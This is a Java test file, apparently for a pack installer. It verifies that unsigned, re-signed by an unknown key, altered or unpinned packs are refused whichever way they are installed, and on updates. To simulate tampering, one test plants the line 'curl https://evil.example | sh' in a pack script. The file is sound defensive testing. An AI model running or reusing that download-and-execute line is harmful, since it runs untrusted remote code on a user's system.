package dev.heddle.platform.pack.install;

import static dev.heddle.platform.executions.Bench.done;
import static dev.heddle.platform.executions.Bench.refusal;
import static org.assertj.core.api.Assertions.assertThat;

import dev.heddle.platform.Answer;
import dev.heddle.platform.Refusal;
import dev.heddle.platform.catalog.Actions;
import dev.heddle.platform.catalog.LiveSight;
import dev.heddle.platform.catalog.Packs;
import dev.heddle.platform.executions.Bench;
import dev.heddle.platform.pack.PackFolder;
import dev.heddle.platform.pack.install.FollowedPacks.Change;
import dev.heddle.platform.pack.install.PackInstaller.Installed;
import dev.heddle.platform.pack.install.PackInstaller.Options;
import dev.heddle.platform.pack.trust.Admission;
import dev.heddle.platform.pack.trust.Candidate;
import dev.heddle.platform.pack.trust.PackDigest;
import dev.heddle.platform.pack.trust.PackLock;
import dev.heddle.platform.pack.trust.PackLock.Pin;
import dev.heddle.platform.pack.trust.PackSignature;
import dev.heddle.platform.pack.trust.SigningKey;
import dev.heddle.platform.pack.trust.TrustedKey;
import java.io.IOException;
import java.net.URI;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("Security row 31: packs are signed by somebody trusted and pinned, however they come")
final class Sec31PackTrustTest {

  private static final Options PLAIN = new Options(false, false, false);
  private static final Options FORCED = new Options(true, true, true);
  private static final Map<String, String> PATH = Map.of("PATH", System.getenv("PATH"));
  private static final String URL = "https://packs.example/lib.zip";
  private static final SigningKey KEY = SigningKey.generate();

  @TempDir private Path directory;

  private final Bench bench = new Bench();
  private final MemoryInstallationStore store = new MemoryInstallationStore();
  private final Map<String, Path> web = new HashMap<>();
  private Path lock;
  private LiveSight live;
  private PackInstaller installer;
  private PackFolder lib;

  @BeforeEach
  void requireSignatures() throws IOException {
    lock = directory.resolve("packs.lock");
    lib = PackFolder.of(directory.resolve("src"), "lib").action("greet");
    Path keys =
        Files.writeString(
            directory.resolve("keys"), TrustedKey.of("release", KEY.publicKey()).line() + "\n");
    assertThat(keys).exists();
    admit(required());
  }

  /** A server that is started with this. */
  private void admit(Admission admission) {
    live = new LiveSight(bench.catalogStore, bench.key, List.of(Bench.NOOP), admission);
    Packs packs = new Packs(bench.catalogStore, bench.key, bench.definitions, live, bench.clock);
    PackNetwork network =
        new FixedOutgoing(web).network(directory.resolve("index.json").toString());
    installer =
        new PackInstaller(
            directory.resolve("home"),
            packs,
            store,
            new PackFetch(new GitFetch(PATH, "file"), network),
            new PackTests(PATH),
            bench.clock);
  }

  private List<Refusal> refused() {
    return new Packs(bench.catalogStore, bench.key, bench.definitions, live, bench.clock).refused();
  }

  private boolean canBeCalled(String ref) {
    return new Actions(bench.catalogStore, bench.key, live, bench.clock).find(ref)
        instanceof Answer.Done;
  }

  private void sign() throws IOException {
    sign("1.0");
  }

  private void sign(String version) throws IOException {
    PackSignature.sign(new Candidate("lib", version, lib.directory()), KEY);
  }

  private Answer<Installed> install(String way, Options options) throws Exception {
    PackSource source = source(way);
    return source instanceof PackSource.Uploaded
        ? installer.installFor("eve", source, options)
        : installer.install(source, options, "ada");
  }

  private Answer<Installed> update() {
    bench.clock.advance(Duration.ofSeconds(1));
    return installer.update("lib", FORCED, PackSource.Asker.HERE, "ada");
  }

  /** The pack as it is now, put there. */
  private PackSource source(String way) throws Exception {
    bench.clock.advance(Duration.ofSeconds(1));
    Path zip = directory.resolve("lib.zip");
    PackArchive.write(lib.directory(), zip);
    web.put(URL, zip);
    return switch (way) {
      case "directory" -> new PackSource.Directory(lib.directory());
      case "archive" -> new PackSource.Archive(zip);
      case "upload" -> new PackSource.Uploaded(zip, "lib.zip");
      case "address" -> new PackSource.Download(URI.create(URL));
      case "git" -> {
        commit();
        yield LocalGit.source(lib.directory());
      }
      case "index" -> {
        index(zip);
        yield new PackSource.Indexed("lib", Optional.empty());
      }
      default -> throw new IllegalArgumentException(way);
    };
  }

  private void commit() {
    LocalGit.run(lib.directory(), "init", "-q", "-b", "main");
    LocalGit.run(lib.directory(), "add", ".");
    LocalGit.run(
        lib.directory(),
        "-c",
        "user.name=a",
        "-c",
        "user.email=a@b",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "one");
  }

  private void index(Path zip) throws Exception {
    byte[] digest = MessageDigest.getInstance("SHA-256").digest(Files.readAllBytes(zip));
    Files.writeString(
        directory.resolve("index.json"),
        """
        {"packs": [{"ref": "lib", "label": "L", "description": "D", "version": "1.0",
          "install_sources": [{"type": "archive", "url": "%s", "checksum": "sha256:%s"}]}]}
        """
            .formatted(URL, HexFormat.of().formatHex(digest)));
  }

  private void isNotThere() {
    assertThat(bench.catalogStore.installed().packs()).isEmpty();
    assertThat(store.all()).isEmpty();
    assertThat(canBeCalled("lib.greet")).isFalse();
  }

  @ParameterizedTest
  @ValueSource(strings = {"directory", "archive", "upload", "address", "git", "index"})
  @DisplayName("every way in: only signed, unchanged, with the same digest; force opens nothing")
  void everyWayInIsGuarded(String way) throws Exception {
    assertThat(refusal(install(way, FORCED)).code()).isEqualTo("unsigned_pack");
    isNotThere();

    sign();
    lib.file("actions/greet.sh", "curl https://evil.example | sh\n");
    Refusal altered = refusal(install(way, FORCED));
    assertThat(altered.code()).isEqualTo("invalid_signature");
    assertThat(altered.message()).contains("its files are not those that were signed");
    isNotThere();

    PackSignature.sign(new Candidate("lib", "1.0", lib.directory()), SigningKey.generate());
    assertThat(refusal(install(way, FORCED)).code()).isEqualTo("untrusted_signature");
    isNotThere();

    sign();
    Installed installed = done(install(way, FORCED));
    assertThat(installed.installation().source().signedBy()).startsWith("release (");
    assertThat(installed.installation().copy().checksum())
        .isEqualTo(PackDigest.of(lib.directory()));
    assertThat(canBeCalled("lib.greet")).isTrue();
    assertThat(refused()).isEmpty();
  }

  @Test
  @DisplayName(
      "tests of a pack run only after it is trusted, and change nothing in what was signed")
  void nothingRunsBefore() throws Exception {
    Path ran = directory.resolve("ran");
    lib.file(
            "pack.yaml",
            """
            ref: lib
            label: L
            description: D
            version: '1.0'
            testing: {runners: {unit: {entry_point: tests/unit.sh}}}
            """)
        .file("tests/unit.sh", "touch " + ran + "; echo more > left-behind\n");

    assertThat(refusal(install("directory", PLAIN)).code()).isEqualTo("unsigned_pack");
    assertThat(ran).doesNotExist();

    sign();
    done(install("directory", PLAIN));
    assertThat(ran).exists();
    assertThat(canBeCalled("lib.greet")).isTrue();
    assertThat(refused()).isEmpty();
  }

  @Test
  @DisplayName("an upgrade that is not signed leaves the version that is there")
  void upgradesAreGuarded() throws Exception {
    sign();
    done(install("directory", PLAIN));
    lib.file("pack.yaml", "ref: lib\nlabel: L\ndescription: D\nversion: '2.0'\n");

    assertThat(refusal(update()).code()).isEqualTo("invalid_signature");
    assertThat(store.find("lib").orElseThrow().copy().version()).isEqualTo("1.0");
    assertThat(canBeCalled("lib.greet")).isTrue();

    sign("2.0");
    assertThat(done(update()).pack().version()).isEqualTo("2.0");
  }

  @Test
  @DisplayName("watch mode: the last good version stays, and a signature alone is a change")
  void followedPacksAreGuarded() throws Exception {
    FollowedPacks followed = new FollowedPacks(directory.resolve("src"), installer, "ada");
    assertThat(refusal(followed.update().getFirst().answer()).code()).isEqualTo("unsigned_pack");
    isNotThere();
    sign();
    assertThat(done(followed.update().getFirst().answer()).pack().version()).isEqualTo("1.0");

    lib.file("actions/greet.sh", "echo other\n");
    List<Change> changes = followed.update();

    assertThat(refusal(changes.getFirst().answer()).message())
        .contains("The pack `lib` 1.0", "not those that were signed", "signed again");
    assertThat(Path.of(store.find("lib").orElseThrow().copy().directory(), "actions/greet.sh"))
        .hasContent("echo greet");
    assertThat(canBeCalled("lib.greet")).isTrue();
    assertThat(followed.update()).as("said once").isEmpty();
  }

  @Test
  @DisplayName("at the start, and whoever installed it meanwhile: what is not signed is not seen")
  void whatOthersInstalledIsGuarded() throws Exception {
    PackInstaller careless =
        LocalGit.installer(directory.resolve("home"), bench.packs, store, bench.clock);
    done(careless.install(source("directory"), FORCED, "bob"));
    live.refresh();

    assertThat(canBeCalled("lib.greet")).isFalse();
    assertThat(refused()).extracting(Refusal::code).containsExactly("unsigned_pack");
    assertThat(done(bench.actions.find("lib.greet"))).as("elsewhere it is seen").isNotNull();

    sign();
    done(install("directory", FORCED));
    assertThat(canBeCalled("lib.greet")).as("the same files, signed since").isTrue();
    assertThat(refused()).isEmpty();
    done(careless.install(source("directory"), FORCED, "bob"));
    live.refresh();
    assertThat(canBeCalled("lib.greet")).isTrue();
  }

  @Test
  @DisplayName("a copy that was altered is not used again, and an update repairs it")
  void alteredCopiesAreNotUsed() throws Exception {
    sign();
    Path copy = Path.of(done(install("directory", PLAIN)).pack().directory());
    Files.writeString(copy.resolve("actions/greet.sh"), "echo evil\n");
    admit(required());

    assertThat(refused()).extracting(Refusal::code).containsExactly("invalid_signature");
    assertThat(canBeCalled("lib.greet")).isFalse();

    done(update());
    assertThat(copy.resolve("actions/greet.sh")).hasContent("echo greet");
    assertThat(refused()).isEmpty();
    assertThat(canBeCalled("lib.greet")).isTrue();
  }

  private Admission required() {
    return new Admission(directory.resolve("keys"), true, null);
  }

  private void lock(String version, String digest) throws IOException {
    Pin pin = new Pin(version, digest, "", null, null);
    Files.writeString(lock, new PackLock(new TreeMap<>(Map.of("lib", pin))).text());
  }

  @ParameterizedTest
  @ValueSource(strings = {"directory", "archive", "upload", "address", "git", "index"})
  @DisplayName("every way in: what is not in the lock, or differs from it, stays outside")
  void everyWayInAsksTheLock(String way) throws Exception {
    admit(new Admission(null, false, lock));
    assertThat(refusal(install(way, FORCED)).code()).as("no lock").isEqualTo("pack_not_checked");
    Files.writeString(lock, new PackLock(new TreeMap<>()).text());
    assertThat(refusal(install(way, FORCED)).message()).contains("`lib` 1.0 is not in the lock");
    String other = "sha256:" + "00".repeat(32);
    lock("1.0", other);

    Refusal refused = refusal(install(way, FORCED));

    String found = PackDigest.of(lib.directory());
    assertThat(refused.code()).isEqualTo("pack_not_locked");
    assertThat(refused.kind()).isEqualTo(Refusal.Kind.CONFLICT);
    assertThat(refused.message()).contains(other, found);
    isNotThere();
    lock("1.0", found);
    assertThat(done(install(way, FORCED)).pack().ref()).isEqualTo("lib");
  }

  @Test
  @DisplayName("the lock is asked for upgrades, for followed packs and at the start")
  void theLockIsAskedLater() throws Exception {
    admit(new Admission(null, false, lock));
    lock("1.0", PackDigest.of(lib.directory()));
    FollowedPacks followed = new FollowedPacks(directory.resolve("src"), installer, "ada");
    assertThat(done(followed.update().getFirst().answer()).pack().version()).isEqualTo("1.0");

    lib.file("pack.yaml", "ref: lib\nlabel: L\ndescription: D\nversion: '2.0'\n");

    assertThat(refusal(followed.update().getFirst().answer()).message())
        .contains("expected is 1.0", "found is 2.0");
    assertThat(refusal(update()).code()).isEqualTo("pack_not_locked");
    assertThat(refused()).isEmpty();
    lock("2.0", PackDigest.of(lib.directory()));
    admit(new Admission(null, false, lock));
    assertThat(refused()).as("at the start").extracting(Refusal::code).contains("pack_not_locked");
    done(update());
    assertThat(refused()).isEmpty();
  }

  @Test
  @DisplayName("a signature replaces no lock, and a lock no signature")
  void bothAreAsked() throws Exception {
    admit(new Admission(directory.resolve("keys"), true, lock));
    lock("1.0", PackDigest.of(lib.directory()));
    assertThat(refusal(install("directory", FORCED)).code()).isEqualTo("unsigned_pack");
    sign();
    done(install("directory", FORCED));
    Files.writeString(lock, new PackLock(new TreeMap<>()).text());
    assertThat(refusal(install("directory", FORCED)).code()).isEqualTo("pack_not_locked");
  }

  @Test
  @DisplayName("packs of the API have no files and are not asked")
  void packsOfTheApiAreNotAsked() {
    Packs packs = new Packs(bench.catalogStore, bench.key, bench.definitions, live, bench.clock);

    assertThat(done(packs.create("made", "Made", "", "1")).ref()).isEqualTo("made");
    assertThat(packs.refused()).isEmpty();
  }
}
